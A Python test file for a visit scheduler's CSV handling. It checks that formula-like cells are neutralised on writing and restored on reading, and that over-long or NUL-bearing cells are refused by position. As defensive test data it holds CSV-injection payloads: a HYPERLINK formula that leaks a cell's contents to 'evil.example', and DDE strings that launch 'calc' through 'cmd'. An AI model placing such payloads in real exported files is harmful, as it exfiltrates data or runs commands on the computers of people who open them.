"""CSV cells both ways (``formats.tabular``): formulas written as text and read back as they
were, and a cell too long for any column refused by file, row and column."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scheduler.cli import main
from scheduler.domain.careplan import visits_csv_text
from scheduler.domain.errors import InputError
from scheduler.domain.formats import amend
from scheduler.domain.formats.day import read_clinicians, read_day, read_visits
from scheduler.domain.formats.tabular import (
    MAX_CELL_CHARS,
    CsvSource,
    csv_text,
    neutralise,
    read_table,
    restore,
)
from tests.support.formats import GOOD_C, GOOD_V

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the route")'
NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1", "-cmd|' /C calc'!A0"]


# -- neutralise and restore ------------------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("value", [-0.202859, -3, "-0.202859", "-3", "+44", "-1e3", "-0,25",
                                   "51.9", "V1", "", "it's", "'quoted", None, 7])  # fmt: skip
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value


def test_a_cell_already_starting_with_a_quote_survives_the_round_trip():
    for cell in ("'=1", "''", "'", "''=x", "'-"):
        assert restore(neutralise(cell)) == cell


#: Any text a cell can hold: no lone surrogates (not UTF-8) and no NUL (refused on reading).
_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
                max_size=12)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(_TEXT, _TEXT), min_size=1, max_size=5))
def test_what_a_writer_writes_the_reader_reads(rows):
    """Any text, formulas and quotes included, reads back as written (stripped, as the
    reader strips every cell) through ``csv_text`` and ``read_table``."""
    text = csv_text(["id", "a", "b"], [[f"r{i}", a, b] for i, (a, b) in enumerate(rows)])
    issues: list = []
    table = read_table(CsvSource.from_text(text, "t.csv"), ["id", "a", "b"], issues)
    assert issues == [] and table is not None
    assert [(c["a"], c["b"]) for _, c in table.rows] == [(a.strip(), b.strip()) for a, b in rows]
    for row in csv.reader(io.StringIO(text)):
        assert all(c == "" or c[0] not in "=+-@\t\r" or NUMBER.fullmatch(c) for c in row), row


# -- the contract's writers ------------------------------------------------------------------


def _formula_day(tmp_path):
    """The good day with formula text in a visit id, an address, a visit type and a
    clinician's name, plus a visit no shift can reach (so it is written to unassigned.csv)."""
    visits = GOOD_V.read_text(encoding="utf-8").replace("V5,", f'"{HYPERLINK.replace(chr(34), 2 * chr(34))}",')
    visits = visits.replace("1 Rowan Close SG1", "@SUM(1+1)*cmd|' /C calc'!A0")
    visits = visits.replace("IV antibiotic dose (q8h)", "-2+3")
    visits += ("=1+1,P9,51.8,-0.2,2026-11-23T02:00,2026-11-23T03:00,30,,1,3,,,,,obs,"
               "=cmd|' /C calc'!A0\n")  # fmt: skip
    clinicians = GOOD_C.read_text(encoding="utf-8").replace("Jo Synthetic", "+Jo")
    (tmp_path / "visits.csv").write_text(visits, encoding="utf-8")
    (tmp_path / "clinicians.csv").write_text(clinicians, encoding="utf-8")
    return tmp_path / "visits.csv", tmp_path / "clinicians.csv"


def test_hah_solve_writes_no_formula_and_hah_check_reads_its_files_back(tmp_path):
    v_csv, c_csv = _formula_day(tmp_path)
    visits, _ = read_day(v_csv, c_csv)
    assert HYPERLINK in {v.visit_id for v in visits}
    out = tmp_path / "out"
    assert main(["solve", "--visits", str(v_csv), "--clinicians", str(c_csv), "--out", str(out),
                 "--iterations", "200", "--quiet"]) == 0  # fmt: skip
    for name in ("rota.csv", "unassigned.csv"):
        cells = [c for row in csv.reader((out / name).open(encoding="utf-8")) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], name
        assert not [c for c in cells if c[:1] == "-" and not c[1:].isdigit()], name
    rota_cells = [c for row in csv.reader((out / "rota.csv").open()) for c in row]
    unassigned_cells = [c for row in csv.reader((out / "unassigned.csv").open()) for c in row]
    assert "'" + HYPERLINK in rota_cells + unassigned_cells
    assert "'=1+1" in unassigned_cells
    # the reader takes the quote off: the independent checker finds every visit by its id
    assert main(["check", "--visits", str(v_csv), "--clinicians", str(c_csv),
                 "--rota", str(out)]) == 0  # fmt: skip


def test_visits_csv_round_trips_formula_text_and_keeps_negative_numbers(tmp_path):
    v_csv, c_csv = _formula_day(tmp_path)
    visits, _ = read_day(v_csv, c_csv)
    text = visits_csv_text(visits)
    assert ",-0.210000," in text and "'-0.210000" not in text  # a longitude, not mangled
    assert "'-2+3" in text and "'@SUM(1+1)" in text
    again = read_visits(CsvSource.from_text(text, "visits.csv"))
    assert again == visits


def test_an_amended_file_is_neutralised_once_however_often_it_is_amended():
    data = GOOD_V.read_bytes()
    row = {"visit_id": "U1", "patient_id": "P9", "lat": "51.8", "lon": "-0.2",
           "window_start": "2026-11-23T09:00", "window_end": "2026-11-23T11:00",
           "duration_min": "30", "staff": "1", "priority": "1", "address": "=HYPERLINK(1)"}  # fmt: skip
    once = amend.append_row(data, "visit_id", row)
    twice = amend.update_row(once, "visit_id", "V1", {"duration_min": "45"})
    assert "'=HYPERLINK(1)" in twice.decode() and "''=" not in twice.decode()
    assert ",-0.2," in twice.decode()
    visits = {v.visit_id: v for v in read_visits(CsvSource("visits.csv", twice))}
    assert visits["U1"].address == "=HYPERLINK(1)" and visits["V1"].duration_min == 45


# -- a cell too long -------------------------------------------------------------------------


def test_a_cell_over_the_limit_is_refused_by_file_row_and_column():
    """A 130 KiB address used to stop Python's csv module with an error naming nothing
    (the web app answered it with a 500)."""
    text = GOOD_V.read_text(encoding="utf-8").replace("2 Beech Road AL1", "x" * (130 * 1024), 1)
    with pytest.raises(InputError) as err:
        read_visits(CsvSource.from_text(text, "visits.csv"))
    [issue] = err.value.issues
    assert (issue.file, issue.row, issue.column) == ("visits.csv", 3, "address")
    assert f"at most {MAX_CELL_CHARS:,}" in issue.message


def test_a_cell_just_over_the_limit_is_refused_and_one_at_it_is_read():
    at = GOOD_V.read_text(encoding="utf-8").replace("2 Beech Road AL1", "x" * MAX_CELL_CHARS)
    assert len(read_visits(CsvSource.from_text(at, "visits.csv"))) == 5
    over = at.replace("x" * MAX_CELL_CHARS, "x" * (MAX_CELL_CHARS + 1))
    with pytest.raises(InputError, match="address"):
        read_visits(CsvSource.from_text(over, "visits.csv"))


def test_a_header_cell_over_the_limit_is_refused_with_its_position():
    text = "visit_id," + "y" * (200 * 1024) + "\nV1,1\n"
    issues: list = []
    assert read_table(CsvSource.from_text(text, "visits.csv"), ["visit_id"], issues) is None
    [issue] = issues
    assert (issue.row, issue.column) == (1, None) and "cell 2" in issue.message


def test_a_nul_character_in_a_cell_is_refused_by_file_row_and_column():
    text = GOOD_V.read_text(encoding="utf-8").replace("V2,", "V\x002,", 1)
    with pytest.raises(InputError) as err:
        read_visits(CsvSource.from_text(text, "visits.csv"))
    assert [(i.row, i.column) for i in err.value.issues] == [(3, "visit_id")]
    assert "NUL" in err.value.issues[0].message


def test_ids_longer_than_the_contract_allows_are_refused():
    """A 200-character visit id was read, and a nurse's report on it was a 500 on PostgreSQL
    (the status table's column holds 128)."""
    long_visit = GOOD_V.read_text(encoding="utf-8").replace("V5,", "V" * 129 + ",", 1)
    with pytest.raises(InputError) as err:
        read_visits(CsvSource.from_text(long_visit, "visits.csv"))
    assert [(i.row, i.column) for i in err.value.issues] == [(6, "visit_id")]
    assert "at most 128" in err.value.issues[0].message
    long_shift = GOOD_C.read_text(encoding="utf-8").replace("H1,", "H" * 65 + ",", 1)
    with pytest.raises(InputError, match="at most 64"):
        read_clinicians(CsvSource.from_text(long_shift, "clinicians.csv"))
